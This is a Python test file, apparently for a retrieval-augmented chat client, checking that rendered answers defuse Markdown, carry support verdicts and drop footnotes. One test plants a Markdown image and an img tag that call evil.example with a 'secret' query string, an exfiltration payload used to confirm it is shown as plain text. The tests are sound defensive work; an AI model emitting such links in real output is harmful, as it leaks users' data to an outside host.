"""Laws of the text that chat clients show."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from rag.api.chat_text import answer_text, closing_text, defused, sentence_text, without_footnotes
from rag.schema import CheckedAnswer, CheckedSentence, Citation, Passage, RankedPassage, Support, Verdict

TEXT = st.text(min_size=1, max_size=60)
MARKDOWN = st.text(alphabet="ab \\![](){}<>/`~:\"'=\n", max_size=40)
VERDICT = st.builds(Verdict, st.sampled_from(Support), st.floats(0, 1), st.tuples(TEXT))
SENTENCE = st.builds(CheckedSentence, TEXT, st.tuples(st.integers(1, 9)), VERDICT)


def unescaped(text: str) -> str:
    """Return a Markdown text with a dot for each escaped character (CommonMark, section 2.4)."""
    return re.sub(r"\\[!-/:-@\[-`{-~]", "·", text)


@given(MARKDOWN)
def test_nothing_is_left_that_markdown_would_act_on(text: str) -> None:
    left = unescaped(defused(text))
    assert not re.search(r"!\[|\]\(|\]\[|\]:|<[a-zA-Z/!?]|```|~~~", left)


@given(st.text(alphabet="abc .,;0123456789[]«»“”ж", max_size=60))
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert defused(text.replace("][", "] [")) == text.replace("][", "] [")


@settings(max_examples=30)
@given(st.lists(SENTENCE, min_size=1, max_size=3), st.lists(TEXT, max_size=2))
def test_what_was_put_beneath_an_answer_is_taken_off_again(sentences: list[CheckedSentence], quotes: list[str]) -> None:
    citations = tuple(Citation(n, "a.txt", 0, len(quote), quote) for n, quote in enumerate(quotes, 1))
    answer = CheckedAnswer("Who?", tuple(sentences), citations, abstained=False, model="m", notes=("a note",))
    whole = answer_text(answer)
    assert whole.endswith(closing_text(answer))
    if citations:
        kept = without_footnotes(whole)
        assert "a.txt" not in kept and "a note" not in kept


def test_a_sentence_says_why_it_is_not_supported() -> None:
    verdict = Verdict(Support.PARTLY_SUPPORTED, 0.4, ("the passage says 2018", "the sentence says ⟨2031⟩"))
    text = sentence_text(CheckedSentence("He left in 2031.", (1, 2), verdict))
    assert text == "He left in 2031.[1][2] ⟨partly supported: the passage says 2018; the sentence says ‹2031›⟩"
    assert without_footnotes(text) == "He left in 2031.[1][2]"


def test_a_planted_picture_in_a_quote_is_words() -> None:
    planted = "![x](https://evil.example/?q=secret) <img src=https://evil.example/>"
    answer = CheckedAnswer(
        "Who?", (), (Citation(1, "a](b.txt", 0, 9, planted),), abstained=True, model="m", text="Nothing.",
        nearest=(RankedPassage(1, 1.0, Passage("p", "c.pdf", 0, 9, planted, page=3)),),
    )  # fmt: skip
    text = answer_text(answer)
    assert "c.pdf, p. 3" in text and not re.search(r"!\[|\]\(|<img", unescaped(text))
